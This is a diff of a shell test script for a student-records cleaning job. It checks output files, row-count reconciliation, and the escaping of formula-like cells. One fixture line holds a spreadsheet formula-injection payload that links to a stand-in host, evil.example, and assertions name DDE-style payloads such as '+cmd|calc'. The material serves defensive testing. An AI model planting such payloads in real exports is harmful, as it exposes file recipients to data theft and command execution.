@@ -10,24 +10,33 @@ trap 'rm -rf "$tmp"' EXIT
 
 "$job" --out-dir "$tmp/out" --on 2026-11-23 > "$tmp/summary.txt"
 cat "$tmp/summary.txt"
-for f in students_cleaned.csv students_errors.csv activities_cleaned.csv activities_errors.csv; do
+for f in students_cleaned.csv students_problems.csv students.xlsx activities_cleaned.csv activities_errors.csv; do
   [ -s "$tmp/out/$f" ] || { echo "missing output $f"; exit 1; }
 done
-# Counts reconcile: rows in = ok + with errors, and the cleaned file holds the ok rows.
+# Counts reconcile: every student row comes out with its status, rejected rows with their errors.
 python3 - "$tmp" <<'PY'
-import csv, re, sys
+import collections, csv, re, sys
 tmp = sys.argv[1]
 text = open(f"{tmp}/summary.txt").read()
-for name in ("students", "activities"):
-    m = re.search(name + r" \(.*?\): (\d+) rows in = (\d+) ok \+ (\d+) with errors", text)
-    rows_in, ok, bad = map(int, m.groups())
-    assert rows_in == ok + bad, (name, rows_in, ok, bad)
-    cleaned = list(csv.DictReader(open(f"{tmp}/out/{name}_cleaned.csv", encoding="utf-8")))
-    assert len(cleaned) == ok, (name, len(cleaned), ok)
-    errors = list(csv.DictReader(open(f"{tmp}/out/{name}_errors.csv", encoding="utf-8")))
-    error_rows = {e["row"] for e in errors if e["severity"] == "error"}
-    assert len(error_rows) == bad, (name, len(error_rows), bad)
-    assert not error_rows & {c["row"] for c in cleaned}
+m = re.search(r"students \(.*?\): (\d+) rows in = (\d+) ok \+ (\d+) fixed \+ (\d+) needs attention \+ (\d+) rejected", text)
+rows_in, ok, fixed, attention, rejected = map(int, m.groups())
+assert rows_in == ok + fixed + attention + rejected, m.groups()
+raw = open(f"{tmp}/out/students_cleaned.csv", "rb").read()
+assert raw.startswith(b"\xef\xbb\xbf"), "the cleaned CSV starts with a BOM (Excel reads it as UTF-8)"
+cleaned = list(csv.DictReader(open(f"{tmp}/out/students_cleaned.csv", encoding="utf-8-sig")))
+assert len(cleaned) == rows_in, (len(cleaned), rows_in)
+status = collections.Counter(r["status"] for r in cleaned)
+assert status == {"ok": ok, "fixed": fixed, "needs attention": attention, "rejected": rejected}, status
+problems = list(csv.DictReader(open(f"{tmp}/out/students_problems.csv", encoding="utf-8-sig")))
+error_rows = {p["row"] for p in problems if p["severity"] == "error"}
+assert error_rows == {r["row"] for r in cleaned if r["status"] == "rejected"}
+assert all(p["problem"] and "_" not in p["problem"].split(":")[0] for p in problems), "plain English"
+m = re.search(r"activities \(.*?\): (\d+) rows in = (\d+) ok \+ (\d+) with errors", text)
+rows_in, ok, bad = map(int, m.groups())
+assert rows_in == ok + bad
+assert len(list(csv.DictReader(open(f"{tmp}/out/activities_cleaned.csv", encoding="utf-8-sig")))) == ok
+errors = list(csv.DictReader(open(f"{tmp}/out/activities_errors.csv", encoding="utf-8-sig")))
+assert len({e["row"] for e in errors if e["severity"] == "error"}) == bad
 print("counts reconcile")
 PY
 
@@ -62,7 +71,7 @@ printf 'first_name,last_name,dob,postcode\n"=HYPERLINK(""http://evil.example/?x=
 python3 - "$tmp/formulas" "$tmp/formulas.txt" <<'PY'
 import csv, pathlib, re, sys
 out, summary = pathlib.Path(sys.argv[1]), open(sys.argv[2]).read()
-cells = [c for f in out.glob("*.csv") for row in csv.reader(open(f, encoding="utf-8")) for c in row]
+cells = [c for f in out.glob("*.csv") for row in csv.reader(open(f, encoding="utf-8-sig")) for c in row]
 def number(c):
     try:
         float(c)
@@ -72,7 +81,7 @@ def number(c):
 bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]
 assert not bad, bad
 assert "'@SUM(1)" in cells and "'+cmd|calc" in cells and "'-Lee" in cells, cells
-n = int(re.search(r"formula-like cells written as text \(a leading '\): (\d+)", summary).group(1))
+n = int(re.search(r"formula-like cells written as text \(a leading ' in CSV, text cells in .xlsx\): (\d+)", summary).group(1))
 assert n >= 3, n
 print(f"ok   formula cells: {n} written as text")
 PY
